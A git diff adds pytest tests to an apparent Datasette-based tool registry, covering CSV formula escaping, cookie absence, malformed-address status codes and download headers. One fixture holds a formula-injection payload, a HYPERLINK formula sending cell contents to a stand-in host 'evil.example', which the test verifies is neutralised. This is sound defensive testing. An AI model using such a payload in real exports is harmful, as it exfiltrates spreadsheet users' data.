@@ -281,3 +281,70 @@ def test_no_marker_in_any_response(get, whitelist):
         assert response.status_code == 200, path
         assert MARKER.lower() not in response.text.lower(), path
         assert MARKER_PHONE not in response.text, path
+
+
+# --- hardening II: the same rules without the app ---------------------------------------------
+
+FORMULA_NAME = '=HYPERLINK("https://evil.example/?d="&A1,"klik")'
+
+
+@pytest.fixture(scope="module")
+def formula_whitelist(tmp_path_factory) -> Path:
+    """The demo data and a tool whose name and description start with formula characters."""
+    from registry import models
+
+    folder = tmp_path_factory.mktemp("formula")
+    registry = Registry(folder / "registry.db")
+    registry.migrate()
+    load_demo(registry)
+    registry.create("tools", models.ToolIn(
+        id="formule", vendor_id="bordwerk", name=FORMULA_NAME, description="+31 6, -1",
+        category=models.Category.productivity, levels=[models.Level.PO],
+    ), "inkoop")
+    publish(registry, folder / "witte-lijst.db", TODAY, "sector")
+    registry.close()
+    return folder / "witte-lijst.db"
+
+
+@pytest.mark.parametrize("path", [f"{DB}/tools.csv?_size=max", f"{DB}/tools.csv?_stream=on&_dl=1",
+                                  f"{DB}/changes.csv?_stream=on", f"{DB}/tools/formule.csv"])
+def test_csv_cells_are_never_formulas(formula_whitelist, loop, path):
+    import csv
+    import io
+
+    datasette = serve(formula_whitelist, loop, metadata=METADATA)
+    response = loop.run_until_complete(datasette.client.get(path))
+    assert response.status_code == 200
+    cells = [c for row in csv.reader(io.StringIO(response.text)) for c in row]
+    assert "'" + FORMULA_NAME in cells
+    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
+
+
+@pytest.mark.parametrize("path", ["/-/messages", "/-/actor.json", DB, f"{DB}/tools",
+                                  f"{DB}/tools/kaartenbak-topografie", f"{DB}/tools.csv",
+                                  f"{DB}/tools.json", "/-/logout"])
+def test_no_answer_sets_a_cookie(get, path):
+    response = get(path)
+    assert response.status_code < 500
+    assert "set-cookie" not in response.headers
+    assert (response.status_code == 404) == (path in ("/-/messages", "/-/logout"))
+
+
+@pytest.mark.parametrize(("path", "status"), [
+    (f"{DB}/tools.json?_sort=name&_sort_desc=id", 400),
+    (f"{DB}/domains/anything", 404),
+    (f"{DB}/tools.json?name__arraycontains=x", 400),
+])
+def test_malformed_addresses_are_400_or_404(get, path, status):
+    assert get(path).status_code == status
+
+
+def test_the_download_sends_no_transfer_encoding(whitelist, loop):
+    # An ASGI app must not set Transfer-Encoding: with it and Content-Length, granian dropped
+    # the connection. Only an immutable file may be downloaded (`datasette -i`).
+    datasette = Datasette(immutables=[str(whitelist)], metadata=METADATA)
+    loop.run_until_complete(datasette.invoke_startup())
+    response = loop.run_until_complete(datasette.client.get(f"{DB}.db"))
+    assert response.status_code == 200
+    assert "transfer-encoding" not in response.headers
+    assert response.content == whitelist.read_bytes()
